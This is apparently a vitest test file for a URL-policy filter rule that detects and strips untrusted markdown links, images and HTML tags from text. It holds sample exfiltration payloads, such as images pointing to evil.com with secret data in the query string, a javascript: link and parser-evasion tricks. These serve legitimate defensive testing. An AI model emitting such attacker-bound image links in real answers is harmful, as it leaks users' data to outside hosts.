import { describe, expect, it } from 'vitest'
import { createFilter } from './create-filter.ts'
import { findInPieces, findInText } from './test-support/show-runs.ts'
import { addressesToKeep, addressesToRefuse } from './test-support/urls.ts'
import { type UrlPolicyOptions, urlPolicy } from './url-policy.ts'

const trusted = {
  allow: ['allowed.com', '*.sub.com', 'https://example.com/docs/', '例子.中国', 'localhost:3000', 'https://only.com'],
}

/** The text with everything that is found in brackets of its own. */
function marked(text: string, options: UrlPolicyOptions = trusted): string {
  const rule = urlPolicy(options)
  const found = findInText(rule, text)
  expect([text, findInPieces(rule, text.split(''))]).toEqual([text, found])
  let result = ''
  let from = 0
  for (const { start, end } of found) {
    result += `${text.slice(from, start)}⟦${text.slice(start, end)}⟧`
    from = end
  }
  return result + text.slice(from)
}

describe('urlPolicy', () => {
  it.each(addressesToRefuse)('finds %s', (expected) => {
    const text = expected.replaceAll(/[⟦⟧]/g, '')
    expect(marked(text)).toBe(expected)
    expect(marked(`好：\n${text}\n\n好。`)).toBe(`好：\n${expected}\n\n好。`)
  })

  it.each(addressesToKeep)('keeps %s', (text) => {
    expect(marked(text)).toBe(text)
    expect(marked(`好：\n${text}\n\n好。`)).toBe(`好：\n${text}\n\n好。`)
  })

  it('leaves text that can be read: the words of a link, and nothing of a picture', () => {
    const filter = createFilter({ rules: [urlPolicy(trusted)] })
    const answer = '见[文档](https://evil.com/?q=机密 "题")和![图 [1]](https://evil.com/?q=1)，或 https://evil.com/a。'
    const { text, hits } = filter.scan(answer)
    expect(text).toBe('见[文档](#link-removed "题")和#link-removed，或 #link-removed。')
    expect(hits.map(({ ruleId, category, severity, action }) => ({ ruleId, category, severity, action }))).toEqual(
      Array(3).fill({ ruleId: 'url', category: 'exfiltration', severity: 'high', action: 'replace' }),
    )
    const stream = filter.stream()
    expect(Array.from(answer, (unit) => stream.push(unit)).join('') + stream.flush()).toBe(text)
    expect(filter.scan(text).hits).toEqual([])
  })

  it('can be told otherwise, as other rules can', () => {
    const rule = urlPolicy({
      allow: [],
      id: 'mine',
      category: 'own',
      severity: 'low',
      action: 'block',
      replaceWith: '…',
    })
    expect(rule).toMatchObject({ id: 'mine', category: 'own', severity: 'low', action: 'block', replaceWith: '…' })
  })

  it('keeps no pictures where none are wanted, and links as ever', () => {
    const options = { ...trusted, images: 'none' } as const
    expect(marked('![a](https://allowed.com/a.png) ![b](/b.png) [c](https://allowed.com)', options)).toBe(
      '⟦![a](https://allowed.com/a.png)⟧ ⟦![b](/b.png)⟧ [c](https://allowed.com)',
    )
    expect(marked('[1]: https://allowed.com', options)).toBe('[1]: ⟦https://allowed.com⟧')
  })

  it('keeps all pictures where that is wanted, and trusts links no more', () => {
    const options = { ...trusted, images: 'all' } as const
    expect(marked('![a](https://evil.com/a.png?u=https://evil.com) https://evil.com', options)).toBe(
      '![a](https://evil.com/a.png?u=https://evil.com) ⟦https://evil.com⟧',
    )
    expect(marked('[a]: https://evil.com', options)).toBe('[a]: ⟦https://evil.com⟧')
    expect(marked('![a](data:image/png;base64,AA)', options)).toBe('⟦![a](data:image/png;base64,AA)⟧')
  })

  it('trusts other hosts of pictures than of links', () => {
    const options = { ...trusted, allowImages: ['img.com'] }
    expect(marked('![a](https://img.com/a) [b](https://allowed.com)', options)).not.toContain('⟦')
    expect(marked('![a](https://allowed.com/a) [b](https://img.com)', options)).toBe(
      '⟦![a](https://allowed.com/a)⟧ [b](⟦https://img.com⟧)',
    )
    expect(marked('<img src="https://img.com/a"> <a href="https://allowed.com">', options)).not.toContain('⟦')
  })

  it.each([
    'https://other.com [a](https://other.com) <https://other.com> www.other.com <a href="https://other.com">a</a>',
    '![a](https://allowed.com/a) [b](https://other.com), ![c](/c)',
    '⟦![a](https://evil.com/a)⟧ [b](https://other.com)',
    '⟦![a](//evil.com/a)⟧ [b](⟦javascript:alert(1)⟧)',
    '![a [b](⟦https://evil.com/b⟧) c](https://allowed.com/a)',
    '⟦![a [b](/b) c](https://evil.com/a)⟧',
    '⟦![a `](https://allowed.com)⟧` b](https://evil.com/a)',
    '⟦![⟧a `]` b](https://evil.com/a)',
    '⟦![⟧a <b c="]"> d](https://evil.com/a)',
    '⟦![⟧a $]$ b](https://evil.com/a)',
    '⟦![a\\](https://allowed.com)⟧ b](https://evil.com/a)',
    '![a `[` b](⟦https://evil.com/a⟧)',
    '![a \\[ b](⟦https://evil.com/a⟧)',
    `⟦![⟧${'a '.repeat(300)}](https://evil.com/a)`,
    '![a][b]\n\n[b]: ⟦https://evil.com/a⟧',
    '⟦<img src="https://evil.com/a">⟧ <img src="https://allowed.com/a">',
    '⟦<IMG alt=a\nsrc=https://evil.com/a>⟧',
    '⟦<table background="//evil.com/a">⟧',
    '⟦<img⟧ alt="<" src="https://evil.com/a">',
    `⟦<img⟧ alt="${'a '.repeat(2000)}" src="https://evil.com/a">`,
    '"//^ ⟦![a](https://evil.com/a)⟧" [c](<https:// ⟦![a](https://evil.com)⟧>)',
    '⟦![<image/](⟧',
    '⟦![a <img src="//evil.com" b](https://evil.com/a)⟧',
    '⟦![⟧a <!-- > ] --> b](https://evil.com/a)',
    'vec!["a\\n", "b\\"c"] and vec![Vec::<u8>::new(); 4] if (![\'a\\t\'].includes(x)) x⟦![a](https://evil.com/a)⟧',
  ])('keeps all links and not all pictures in %s', (expected) => {
    expect(marked(expected.replaceAll(/[⟦⟧]/g, ''), { ...trusted, links: 'all' })).toBe(expected)
  })

  it('holds nothing back of what no picture is to code', () => {
    const stream = createFilter({ rules: [urlPolicy(trusted)] }).stream()
    expect(stream.push('let x = vec![a, b, c')).toBe('let x = vec![a, b, c')
    expect(stream.push('](https://evil.com)')).toBe('](#link-removed)')
  })

  it('keeps relative addresses and pictures in addresses only as it is told', () => {
    const strict = { ...trusted, relative: false }
    expect(marked('[a](/a) [b](#b) ![c](c.png)', strict)).toBe('[a](⟦/a⟧) [b](#b) ⟦![c](c.png)⟧')
    const data = '![a](data:image/png;base64,iVBOR//w0KGgo=) <img src="data:image/png;base64,AA==">'
    expect(marked(data, { ...trusted, dataImages: true })).toBe(data)
    expect(marked('[a](data:image/png,x) ![b](data:text/html,x)', { ...trusted, dataImages: true })).toContain('⟦')
  })

  it('keeps the schemes that it is told to keep', () => {
    expect(marked('[a](tel:1) [b](mailto:a@b.c)', { ...trusted, schemes: ['tel'] })).toBe(
      '[a](tel:1) [b](⟦mailto:a@b.c⟧)',
    )
    expect(marked('http://allowed.com https://allowed.com', { ...trusted, schemes: ['https'] })).toBe(
      '⟦http://allowed.com⟧ https://allowed.com',
    )
  })

  it.each<[string, unknown]>([
    ['allow', ['']],
    ['allow', ['a b']],
    ['allow', ['*']],
    ['allow', ['a.*.com']],
    ['allow', ['ftp://a.com']],
    ['allow', ['https://me@a.com']],
    ['allow', ['https://a.com/?q=1']],
    ['allow', ['/docs']],
    ['allow', ['//docs']],
    ['allow', ['https:///docs']],
    ['allow', ['https:/docs']],
    ['allow', ['\t/docs']],
    ['allow', ['example.com/*']],
    ['allow', ['https://*.example.com/docs*']],
    ['allow', ['ex\nample.com']],
    ['allow', [/example/]],
    ['allow', 'example.com'],
    ['allow', undefined],
    ['allowImages', ['https://']],
    ['allowImages', ['/images']],
    ['images', 'some'],
    ['links', 'none'],
    ['schemes', ['javascript']],
    ['schemes', ['https:']],
  ])('refuses %s: %j', (name, value) => {
    expect(() => urlPolicy({ allow: [], [name]: value })).toThrow(new RegExp(`^urlPolicy: ${name} `))
    expect(() => urlPolicy({ allow: [], [name]: value })).toThrow(RangeError)
  })

  it('says what is expected of a host', () => {
    expect(() => urlPolicy({ allow: ['example.com/*'] })).toThrow(
      'allow takes hosts such as example.com or *.example.com, and addresses such as https://example.com/docs/, got example.com/*',
    )
    expect(() => urlPolicy({} as UrlPolicyOptions)).toThrow('allow must be a list of hosts, got undefined')
  })
})
